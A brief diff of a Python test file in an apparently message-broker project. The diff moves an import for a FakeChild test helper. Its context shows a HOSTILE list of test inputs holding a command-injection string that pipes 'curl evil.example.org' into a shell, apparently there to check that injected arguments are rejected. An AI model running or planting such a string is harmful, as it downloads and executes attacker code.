@@ -26,7 +26,7 @@ from trocket.remoting.response_codes import ResponseCode
 from trocket.store.config import MessageStoreConfig
 
 from ..embedded import embedded_broker
-from ..test_filter_server_keeper import FakeChild
+from ..filter_servers.test_filter_server_keeper import FakeChild
 
 HOSTILE = [
     "-c $@|sh . echo curl evil.example.org|sh;",
